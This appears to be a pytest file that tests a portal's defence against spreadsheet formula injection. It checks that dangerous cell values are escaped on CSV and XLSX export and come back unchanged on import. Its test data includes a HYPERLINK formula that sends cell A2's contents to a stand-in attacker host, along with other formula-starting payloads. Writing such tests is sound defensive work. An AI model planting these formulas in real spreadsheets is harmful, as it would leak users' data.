"""The shared spreadsheet rules: formula-safe cells out, the same text back in, limits."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ita_portal.spreadsheets import (
    csv_bytes,
    escape_cell,
    read_sheet,
    unescape_cell,
    xlsx_bytes,
)

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Click")'
DANGEROUS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "'=quoted", "''+x"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_start_a_formula_gets_a_quote_and_comes_back_unchanged(text):
    escaped = escape_cell(text)
    assert escaped == "'" + text
    assert unescape_cell(escaped) == text


@pytest.mark.parametrize("value", ["ข้อความ", "a=b", "", "5", "'quoted", -5, Decimal("-5.5"), None])
def test_other_values_are_left_alone(value):
    assert escape_cell(value) == value
    assert unescape_cell(value) == value


def test_csv_cells_are_quoted_and_read_back_unchanged(settings):
    content = csv_bytes(["title", "score"], [[HYPERLINK, -5], ["-5", Decimal("99.13")]])
    assert content.startswith(b"\xef\xbb\xbf")
    assert b"'=HYPERLINK" in content and b"'-5" in content
    dataset = read_sheet(content=content, fmt="csv")
    assert dataset.headers == ["title", "score"]
    assert list(dataset) == [(HYPERLINK, "-5"), ("-5", "99.13")]


def test_xlsx_text_is_a_text_cell_and_numbers_and_dates_stay_what_they_are():
    content = xlsx_bytes(
        ["title", "score", "date"], [[HYPERLINK, -5, dt.date(2022, 9, 30)], ["-5", 1.5, ""]]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    formula, number, date = sheet[2]
    assert formula.data_type == "s" and formula.value == HYPERLINK and formula.quotePrefix
    assert number.data_type == "n" and number.value == -5
    assert date.is_date
    assert sheet["A3"].data_type == "s" and sheet["A3"].value == "-5"
    assert read_sheet(content=content, fmt="xlsx")[0][:2] == (HYPERLINK, -5)
